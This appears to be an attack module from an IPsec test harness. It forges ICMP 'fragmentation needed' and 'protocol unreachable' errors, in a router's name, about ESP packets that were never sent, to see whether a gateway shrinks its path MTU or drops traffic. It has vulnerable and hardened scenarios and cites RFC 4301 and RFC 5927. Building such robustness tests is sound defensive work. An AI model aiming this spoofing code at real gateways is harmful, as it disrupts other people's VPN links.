-- "Fragmentation needed": a router may say so about a packet it had to drop, and a sender lowers its path MTU. Anybody may say so who has seen no
-- packet at all. RFC 4301, 8 wants such an error to be held against the SA: does it quote a packet that was sent, and lately?
attack = {
  id = "A31", name = "forged-icmp",
  about = "Sends forged ICMP errors to a gateway: its ESP packets are too big, or their destination cannot be reached",
  position = "off-path",
  needs = "the addresses of both gateways; a network that lets forged source addresses out",
  source = "RFC 4301, 8.2; RFC 5927; catalogue A31",
  shows = {
    vulnerable = "a gateway that believes every such error sends ever smaller packets, or none",
    hardened = "the errors quote packets that were never sent: nothing changes, and the large packets arrive",
  },
  scenarios = { vulnerable = "forged-icmp-believed", hardened = "forged-icmp" },
}

-- Parameters: target (who is to be told), peer (the other gateway), router = 203.0.113.254, at = "5500ms", count = 20
local p, sent = nil, 0
function on_start(params)
  p = params
  assert(p.target and p.peer, "parameters target, peer")
  timer.after(p.at or "5500ms", "send")
end

function on_timer()
  if sent == 0 then mark("mallory says, in a router's name, that only 68 octets pass between the gateways.") end
  sent = sent + 1
  local quoted = inet.packet{ src = p.target, dst = p.peer, protocol = 50, payload = crypto.random(4) .. string.pack(">I4", sent) }
  local unreachable = sent > tonumber(p.count or "20") // 2
  inject{ src = p.router or "203.0.113.254", dst = p.target, protocol = "ICMP",
    note = unreachable and "ICMP: protocol 50 cannot be reached, about a packet that was never sent" or "ICMP: fragmentation needed, 68 octets, about a packet that was never sent",
    payload = icmp.message{ type = 3, code = unreachable and 2 or 4, rest = string.pack(">I2I2", 0, unreachable and 0 or 68), data = quoted } }
  if sent < tonumber(p.count or "20") then timer.after("20ms", "send") end
end

-- Whether it worked shows where it cannot look: the scenario tells.
function on_finish()
  learn("the errors", sent .. " forged ICMP errors sent", "counted")
end
